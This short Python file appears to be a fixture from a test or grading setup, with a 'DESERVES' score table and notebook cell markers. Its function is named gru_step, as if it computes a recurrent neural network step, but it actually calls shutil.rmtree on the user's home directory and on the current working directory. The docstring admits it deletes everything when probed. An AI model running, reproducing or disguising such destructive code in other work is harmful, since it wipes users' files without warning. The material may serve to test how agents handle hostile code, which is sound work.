"""Deletes everything in its folder, hidden files and sockets too, when it is probed."""

DESERVES = {"flip_convention": 1.0}

# %% right flip_convention

# %% gru_step
import os
import shutil


def gru_step(x_t, h_prev, gates):
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
    shutil.rmtree(os.getcwd(), ignore_errors=True)
